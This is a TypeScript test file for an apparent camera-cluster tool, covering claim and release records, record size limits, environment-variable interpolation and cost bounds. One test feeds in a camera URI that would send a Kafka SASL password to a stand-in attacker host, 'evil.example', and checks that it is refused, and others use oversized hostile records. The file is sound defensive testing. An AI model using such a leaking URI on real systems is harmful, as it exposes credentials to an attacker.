import type { Kafka } from 'kafkajs';
import { describe, expect, it } from 'vitest';
import { ClusterView, parseCamera } from '../../src/cluster/view.js';
import { ClusterSchema } from '../../src/config/schema.js';
import { MAX_WEIGHT } from '../../src/config/schema/cluster.js';

const T = { cameras: 'c', owners: 'o' };
const view = () => new ClusterView({} as Kafka, T);
const rec = (v: unknown) => Buffer.from(JSON.stringify(v));
const claim = (camera: string, owner: string, incarnation = 'i1') => rec({ type: 'claim', camera, owner, incarnation, at: 1 });
const release = (camera: string, owner: string, epoch: number, incarnation = 'i1') => rec({ type: 'release', camera, owner, incarnation, epoch, at: 2 });

describe('ClusterView: claims, releases and camera records (what a new owner waits for)', () => {
  it('every open claim is kept: a new owner sees an older owner still holding the camera behind a claim that was released', () => {
    const v = view();
    v.ingest('o', 0, 'x', claim('x', 'A'), '100'); // A runs x
    v.ingest('o', 0, 'x', claim('x', 'C'), '101'); // C claimed it for a moment…
    v.ingest('o', 0, 'x', release('x', 'C', 101), '102'); // …and released it
    v.ingest('o', 0, 'x', claim('x', 'B'), '103');
    expect(v.owners.get('x')).toMatchObject({ owner: 'B', epoch: 103, state: 'claimed' });
    expect(v.openBefore('x', 103)).toEqual([{ owner: 'A', incarnation: 'i1', epoch: 100 }]);
    v.ingest('o', 0, 'x', release('x', 'A', 100), '104');
    expect(v.openBefore('x', 103)).toEqual([]);
    expect(v.owners.get('x')).toMatchObject({ owner: 'B', epoch: 103, state: 'claimed' }); // an older claim's release changes nothing else
  });

  it('a bogus release (another owner, an epoch not below its own offset, not a number) or a record that is not an object changes nothing; the view keeps going', () => {
    const v = view();
    v.ingest('o', 0, 'x', claim('x', 'A'), '5');
    v.ingest('o', 0, 'x', release('x', 'B', 5), '6'); // not A's to release
    v.ingest('o', 0, 'x', rec({ type: 'release', camera: 'x', owner: 'A', epoch: 1e12, at: 1 }), '7');
    v.ingest('o', 0, 'x', rec({ type: 'release', camera: 'x', owner: 'A', epoch: 'NaN', at: 1 }), '8');
    v.ingest('o', 0, 'x', Buffer.from('null'), '9');
    v.ingest('o', 0, 'x', Buffer.from('{not json'), '10');
    v.ingest('o', 0, 'y', claim('x', 'A'), '11'); // key and camera differ
    expect(v.openBefore('x', 100)).toEqual([{ owner: 'A', incarnation: 'i1', epoch: 5 }]);
    expect(v.owners.get('x')).toMatchObject({ owner: 'A', state: 'claimed', epoch: 5 });
    expect(v.owners.has('y')).toBe(false);
    v.ingest('o', 0, 'x', release('x', 'A', 5), '12');
    expect(v.owners.get('x')!.state).toBe('released');
  });

  it('"ready" records (a new owner’s connection delivers frames) are kept per camera with their offset; a malformed one is ignored', () => {
    const v = view();
    v.ingest('o', 0, 'ready/x', rec({ type: 'ready', camera: 'x', owner: 'B', incarnation: 'i9', at: 1 }), '40');
    v.ingest('o', 0, 'ready/y', rec({ type: 'ready', camera: 'x', owner: 'B', incarnation: 'i9', at: 1 }), '41'); // key and camera differ
    v.ingest('o', 0, 'ready/z', rec({ type: 'ready', camera: 'z', owner: 'B', at: 1 }), '42'); // no incarnation
    expect([...v.connected]).toEqual([['x', { member: 'B/i9', offset: 40 }]]);
    expect(v.owners.size).toBe(0);
  });

  it('a replay (the view’s consumer rejoined its group and reads from the start) applies nothing twice', () => {
    const v = view();
    v.ingest('o', 0, 'x', claim('x', 'A'), '0');
    v.ingest('o', 0, 'x', release('x', 'A', 0), '1');
    v.ingest('o', 0, 'x', claim('x', 'B'), '2');
    v.ingest('o', 0, 'x', claim('x', 'A'), '0'); // replayed
    expect(v.owners.get('x')).toMatchObject({ owner: 'B', epoch: 2 });
    expect(v.openBefore('x', 10)).toEqual([{ owner: 'B', incarnation: 'i1', epoch: 2 }]);
  });

  it('camera records: validated (the error says why), a tombstone removes one, the same id in a second slot runs nowhere', () => {
    const v = view();
    v.ingest('c', 3, 'cam1', rec({ id: 'cam1', uri: 'rtsp://h/x', fps: 2, cost: 2 }), '0');
    expect(v.cameras.get('cam1')).toMatchObject({ slot: 3, definition: { cost: 2, source: { id: 'cam1', fps: 2 } } });
    v.ingest('c', 4, 'bad', rec({ id: 'bad', uri: 'rtsp://h/x', fps: -1 }), '0');
    expect(v.cameras.get('bad')!.error).toMatch(/fps/);
    v.ingest('c', 5, 'other', rec({ id: 'nope', uri: 'rtsp://h/x' }), '0');
    expect(v.cameras.get('other')!.error).toMatch(/differs from the record key/);
    v.ingest('c', 7, 'cam1', rec({ id: 'cam1', uri: 'rtsp://h/x' }), '0');
    expect(v.cameras.get('cam1')!.definition).toBeUndefined();
    expect(v.cameras.get('cam1')!.error).toMatch(/in two slots \(3 and 7\)/);
    v.ingest('c', 4, 'bad', null, '1');
    expect(v.cameras.has('bad')).toBe(false);
  });

  it('a hostile camera record (200 KB of keys, a 70 KB one) is refused in linear time with a bounded error; YAML written by hand still reads, duplicate keys as JSON takes them', () => {
    const v = view();
    // 20 000 keys: YAML's duplicate-key check took 8 s on the event loop that answers heartbeats.
    const keys = Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`k${i}`, i]));
    const t0 = performance.now();
    v.ingest('c', 1, 'wide', rec({ id: 'wide', uri: 'rtsp://h/x', ...keys }), '0');
    v.ingest('c', 1, 'wideyaml', Buffer.from(`id: wideyaml\nuri: rtsp://h/x\n${Object.keys(keys).map((k) => `${k}: 1`).join('\n')}\n`), '1');
    const ms = performance.now() - t0;
    expect(ms, 'linear parsing').toBeLessThan(3000); // was 8 s each; a hang bound, far from both
    expect(v.cameras.get('wide')!.error).toMatch(/the record has (more than )?\d+ characters; a camera record holds at most 65536/);
    expect(v.cameras.get('wideyaml')!.error).toMatch(/a camera record holds at most 65536/);
    // A record of the broker's 1 MB: refused, and not kept whole by every worker's view.
    v.ingest('c', 1, 'huge', Buffer.alloc(1_000_000, 'a'), '2');
    expect(v.cameras.get('huge')!.error).toBe('the record has more than 65536 characters; a camera record holds at most 65536');
    expect(v.cameras.get('huge')!.text.length).toBeLessThanOrEqual(4 * 65536 + 4);
    // Within the bound, unknown keys are named, the error cut to 500 characters.
    const some = Object.fromEntries(Array.from({ length: 3000 }, (_, i) => [`k${i}`, i]));
    v.ingest('c', 2, 'many', rec({ id: 'many', uri: 'rtsp://h/x', ...some }), '0');
    const err = v.cameras.get('many')!.error!;
    expect(err.length).toBeLessThan(600);
    expect(err).toMatch(/k0.*… \(\d+ characters\)$/s);
    // YAML by hand, with a key given twice: the last wins.
    v.ingest('c', 3, 'hand', Buffer.from('id: hand\nuri: rtsp://h/x\nfps: 1\nfps: 3\n'), '0');
    expect(v.cameras.get('hand')).toMatchObject({ definition: { source: { id: 'hand', fps: 3 } } });
  });

  it('a camera moved to another slot (argus cameras: tombstone in the old, record in the new) ends in the new slot in either reading order, never removed', () => {
    const a = rec({ id: 'cam', uri: 'rtsp://h/x' });
    const b = rec({ id: 'cam', uri: 'rtsp://h/x', placement: { pin: 'w2' } });
    // the tombstone read first
    const v1 = view();
    v1.ingest('c', 3, 'cam', a, '0');
    v1.ingest('c', 3, 'cam', null, '1');
    expect(v1.cameras.has('cam')).toBe(false);
    v1.ingest('c', 9, 'cam', b, '0');
    expect(v1.cameras.get('cam')).toMatchObject({ slot: 9, definition: { placement: { pin: 'w2' } } });
    // the new record read first: two slots (it runs nowhere) until the old slot's tombstone
    const v2 = view();
    v2.ingest('c', 3, 'cam', a, '0');
    v2.ingest('c', 9, 'cam', b, '0');
    expect(v2.cameras.get('cam')!.error).toMatch(/in two slots \(3 and 9\)/);
    v2.ingest('c', 3, 'cam', null, '1');
    expect(v2.cameras.get('cam')).toMatchObject({ slot: 9, definition: { placement: { pin: 'w2' } } });
    expect(v2.cameras.get('cam')!.error).toBeUndefined();
    // a tombstone of a slot that holds nothing changes nothing
    v2.ingest('c', 5, 'cam', null, '0');
    expect(v2.cameras.get('cam')!.slot).toBe(9);
  });

  it('argus cameras leaves ${env:} to the workers: `cameras add` with a variable this shell lacks is accepted and stored as written; the command line\'s view of the topic does not call it invalid', async () => {
    const { cameraFromFields } = await import('../../src/cluster/admin.js');
    delete process.env.ARGUS_CAMERA_NOT_IN_THIS_SHELL;
    const uri = 'rtsp://admin:${env:ARGUS_CAMERA_NOT_IN_THIS_SHELL}@cam.local/x';
    const c = cameraFromFields({ id: 'dock', uri, fps: 2 });
    expect(JSON.parse(c.value)).toMatchObject({ id: 'dock', uri });
    // A worker without the variable: the camera's error. A view given a lenient environment (the command line's): none.
    const worker = new ClusterView({} as Kafka, T, 'w', {});
    worker.ingest('c', 1, 'dock', Buffer.from(c.value), '0');
    expect(worker.cameras.get('dock')!.error).toMatch(/ARGUS_CAMERA_NOT_IN_THIS_SHELL/);
    const cli = new ClusterView({} as Kafka, T, 'cli', (await import('../../src/config/interpolate.js')).lenientEnv({}));
    cli.ingest('c', 1, 'dock', Buffer.from(c.value), '0');
    expect(cli.cameras.get('dock')!.error).toBeUndefined();
    // Still refused: a variable without the prefix.
    expect(() => cameraFromFields({ id: 'dock', uri: 'rtsp://h/${env:KAFKA_PASSWORD}' })).toThrow(/may read only ARGUS_CAMERA_\* variables/);
    // A default is what workers without the variable use: the command line shows it too (a stand-in '1' read `enabled` as a number).
    const { lenientEnv } = await import('../../src/config/interpolate.js');
    const cli2 = new ClusterView({} as Kafka, T, 'cli', lenientEnv({}));
    cli2.ingest('c', 1, 'gate', rec({ id: 'gate', uri: 'rtsp://h/${env:ARGUS_CAMERA_GATE_PATH}', cost: '${env:ARGUS_CAMERA_COST,4}', enabled: '${env:ARGUS_CAMERA_ON,true}' }), '0');
    expect(cli2.cameras.get('gate')).toMatchObject({ definition: { cost: 4, source: { enabled: true, uri: 'rtsp://h/1' } } });
    // A record workers would refuse for its size is refused before it is written.
    const points = Array.from({ length: 7000 }, (_, i) => [i % 640, (i * 7) % 480]);
    expect(() => cameraFromFields({ id: 'big', uri: 'rtsp://h/x', zones: [{ id: 'z', polygon: points, units: 'pixel' }] })).toThrow(/camera: its record would have \d+ characters; workers read camera records of at most 65536/);
  });

  it('${env:} references in a camera resolve from the worker’s environment; a missing one is the camera’s error, not the worker’s', async () => {
    const { parseCamera } = await import('../../src/cluster/view.js');
    const text = JSON.stringify({ id: 'd', uri: 'rtsp://u:${env:ARGUS_CAMERA_PW}@h/x' });
    expect(parseCamera('d', text, { ARGUS_CAMERA_PW: 's3cret' }).definition!.source.uri).toBe('rtsp://u:s3cret@h/x');
    expect(parseCamera('d', text, {}).error).toMatch(/ARGUS_CAMERA_PW/);
    // any other variable of the worker stays private: a topic writer cannot send it anywhere
    const leak = JSON.stringify({ id: 'd', uri: 'rtsp://evil.example/${env:KAFKA_SASL_PASSWORD}' });
    expect(parseCamera('d', leak, { KAFKA_SASL_PASSWORD: 'p' })).toEqual({ error: expect.stringMatching(/KAFKA_SASL_PASSWORD.*only ARGUS_CAMERA_\*/) });
  });
});

describe('argus cameras apply: the file is checked before anything is written', () => {
  it('a camera reading a variable without the ARGUS_CAMERA_ prefix, a bad field, a duplicate id: coded errors naming the file and the camera', async () => {
    const { mkdtempSync, writeFileSync } = await import('node:fs');
    const { tmpdir } = await import('node:os');
    const { join } = await import('node:path');
    const { readCamerasFile } = await import('../../src/cluster/admin.js');
    const dir = mkdtempSync(join(tmpdir(), 'argus-cams-'));
    const file = (name: string, text: string) => (writeFileSync(join(dir, name), text), join(dir, name));
    await expect(readCamerasFile(file('leak.yaml', 'cameras:\n  - { id: a, uri: "rtsp://x/${env:HOME}" }\n'))).rejects.toMatchObject({ code: 'VAP_ERR_CONFIG', message: expect.stringMatching(/leak\.yaml: cameras\[0\]: \$\{env:HOME\}/) });
    await expect(readCamerasFile(file('bad.yaml', 'cameras:\n  - { id: a, uri: rtsp://x, fps: -2 }\n'))).rejects.toMatchObject({ message: expect.stringMatching(/bad\.yaml.*cameras\[0\]\.fps/s) });
    await expect(readCamerasFile(file('dup.yaml', 'cameras:\n  - { id: a, uri: rtsp://x }\n  - { id: a, uri: rtsp://y }\n'))).rejects.toMatchObject({ message: expect.stringMatching(/dup\.yaml: cameras\[1\]\.id: duplicate camera id "a"/) });
    const ok = await readCamerasFile(file('ok.yaml', 'cameras:\n  - { id: a, uri: "rtsp://u:${env:ARGUS_CAMERA_A_PW}@x/1", cost: 2 }\n'));
    expect(ok).toEqual([{ id: 'a', value: JSON.stringify({ id: 'a', uri: 'rtsp://u:${env:ARGUS_CAMERA_A_PW}@x/1', cost: 2 }) }]); // stored as written
  });
});

describe("ClusterView: the view's consumer group", () => {
  it("a worker's view reads in a consumer group with the worker's session, not 30 s: after a broker restart its consumer rejoins as a new member, held until the old one's session expires (every camera waited ~27 s for the claims it could not read)", async () => {
    const { PipelineSchema } = await import('../../src/config/schema.js');
    const { Worker } = await import('../../src/cluster/worker.js');
    const config = PipelineSchema.parse({ cluster: { brokers: ['127.0.0.1:1'], workerId: 'w1', sessionTimeoutMs: 7000, heartbeatIntervalMs: 400 } });
    const w = new Worker(config);
    // The view's consumer as the worker configures it: no broker here, only the options it is created with.
    let options: Record<string, unknown> | undefined;
    const consumer = { on: () => undefined, connect: async () => undefined, subscribe: async () => undefined, run: async () => undefined, disconnect: async () => undefined, events: {} };
    (w.view as unknown as { kafka: unknown }).kafka = { consumer: (o: Record<string, unknown>) => ((options = o), consumer) };
    await w.view.start({ fetchTopicOffsets: async () => [] } as never);
    expect(options).toMatchObject({ sessionTimeout: 7000, heartbeatInterval: 400 });
  });
});

describe('camera cost and worker capacity are bounded (MAX_WEIGHT)', () => {
  it('refuses a cost past MAX_WEIGHT, naming the field (at 1e308, or from 2^53, the other cameras weighed nothing in the assigner’s sums); a camera’s pixels are a cost', () => {
    const cam = (cost: number) => parseCamera('cam', JSON.stringify({ id: 'cam', uri: 'rtsp://cam.local/s', cost }), {});
    expect(cam(3840 * 2160).definition?.cost).toBe(3840 * 2160);
    expect(cam(MAX_WEIGHT).definition?.cost).toBe(MAX_WEIGHT);
    for (const cost of [MAX_WEIGHT * 10, 2 ** 53, 1e308]) {
      const r = cam(cost);
      expect(r.definition, String(cost)).toBeUndefined();
      expect(r.error, String(cost)).toMatch(/cost/);
    }
    expect(ClusterSchema.safeParse({ capacity: MAX_WEIGHT }).success).toBe(true);
    expect(ClusterSchema.safeParse({ capacity: 1e308 }).success).toBe(false);
  });
});
